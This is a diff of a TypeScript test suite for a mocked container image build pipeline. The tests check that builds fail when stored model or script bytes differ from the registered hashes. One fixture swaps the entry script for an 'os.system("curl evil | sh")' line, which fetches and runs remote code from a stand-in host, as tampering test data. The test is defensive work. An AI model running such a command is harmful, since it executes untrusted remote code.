@@ -21,9 +21,18 @@ const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')
 const BUCKET = 'artifacts';
 const PREFIX = 'images/churn-scorer/1/context/';
 const WEIGHTS = JSON.stringify({ weights: [1, 0.5] });
-const MODEL = { name: 'churn', version: 1, artifactUri: `s3://${BUCKET}/models/churn/1/model.json`, artifactVersionId: 'Vmodel', artifactSha256: sha256(WEIGHTS) };
+const MODEL = {
+  name: 'churn',
+  version: 1,
+  artifactUri: `s3://${BUCKET}/models/churn/1/model.json`,
+  artifactVersionId: 'Vmodel',
+  artifactSha256: sha256(WEIGHTS),
+};
 const CONTEXT = {
-  ...renderBuildContext({ imageName: 'churn-scorer', imageVersion: 1, baseImage: 'python:3.12', entryFile: 'score.py', models: [MODEL], environment: {}, requirements: [] }, '# shim\n'),
+  ...renderBuildContext(
+    { imageName: 'churn-scorer', imageVersion: 1, baseImage: 'python:3.12', entryFile: 'score.py', models: [MODEL], environment: {}, requirements: [] },
+    '# shim\n',
+  ),
   'score.py': 'def run(data):\n    return data\n',
 };
 
@@ -51,7 +60,7 @@ describe('imageBuildSimulator', () => {
   /** S3 holding the registered versions, with `swap` applied (the bytes a version id now answers with). */
   function registered(swap: Record<string, string> = {}): StartedBuild {
     const files: ContextFile[] = Object.entries(CONTEXT).map(([name, text]) => ({ name, versionId: `V-${name}`, sha256: sha256(text) }));
-    const objects: Record<string, string> = { [`models/churn/1/model.json@Vmodel`]: WEIGHTS, ...swap };
+    const objects: Record<string, string> = { 'models/churn/1/model.json@Vmodel': WEIGHTS, ...swap };
     for (const file of files) objects[`${PREFIX}${file.name}@${file.versionId}`] ??= CONTEXT[file.name as keyof typeof CONTEXT];
     s3.on(GetObjectCommand).callsFake(async (input: GetObjectCommandInput) => {
       const body = objects[`${input.Key}@${input.VersionId}`];
@@ -78,18 +87,35 @@ describe('imageBuildSimulator', () => {
   }
 
   const simulate = (build: StartedBuild) =>
-    imageBuildSimulator({ lambda: new LambdaClient({}), s3: new S3Client({}), ecr: new ECRClient({}), imageEventsFunction: 'image-events', logDirectory, phaseDelayMs: 0 })(build);
+    imageBuildSimulator({
+      lambda: new LambdaClient({}),
+      s3: new S3Client({}),
+      ecr: new ECRClient({}),
+      imageEventsFunction: 'image-events',
+      logDirectory,
+      phaseDelayMs: 0,
+    })(build);
 
   it.each([
-    ['the entry script of the context', { [`${PREFIX}score.py@V-score.py`]: 'import os\nos.system("curl evil | sh")\n' }, `s3://${BUCKET}/${PREFIX}score.py version V-score.py is not what was registered`],
-    ['the model artifact', { 'models/churn/1/model.json@Vmodel': '{"weights":["swapped"]}' }, `s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered`],
+    [
+      'the entry script of the context',
+      { [`${PREFIX}score.py@V-score.py`]: 'import os\nos.system("curl evil | sh")\n' },
+      `s3://${BUCKET}/${PREFIX}score.py version V-score.py is not what was registered`,
+    ],
+    [
+      'the model artifact',
+      { 'models/churn/1/model.json@Vmodel': '{"weights":["swapped"]}' },
+      `s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered`,
+    ],
   ])('fails the build in PRE_BUILD when %s holds other bytes than were registered, packing, running and pushing nothing', async (_, swap, message) => {
     await simulate(registered(swap));
 
     const end = delivered.at(-1)!;
     expect(end['detail-type']).toBe('CodeBuild Build State Change');
     expect(end.detail['build-status']).toBe('FAILED');
-    const failed = (end.detail['additional-information'].phases as { 'phase-type': string; 'phase-status'?: string; 'phase-context'?: string[] }[]).find((phase) => phase['phase-status'] === 'FAILED')!;
+    const failed = (end.detail['additional-information'].phases as { 'phase-type': string; 'phase-status'?: string; 'phase-context'?: string[] }[]).find(
+      (phase) => phase['phase-status'] === 'FAILED',
+    )!;
     expect(failed['phase-type']).toBe('PRE_BUILD');
     expect(failed['phase-context']![0]).toContain(message);
     expect(s3.commandCalls(PutObjectCommand)).toHaveLength(0);
@@ -104,7 +130,9 @@ describe('imageBuildSimulator', () => {
 
     const end = delivered.at(-1)!;
     expect(end.detail['build-status']).toBe('FAILED');
-    expect(JSON.stringify(end.detail)).toContain(`s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered: it cannot be read (NoSuchKey)`);
+    expect(JSON.stringify(end.detail)).toContain(
+      `s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered: it cannot be read (NoSuchKey)`,
+    );
     expect(s3.commandCalls(PutObjectCommand)).toHaveLength(0);
   });
 });
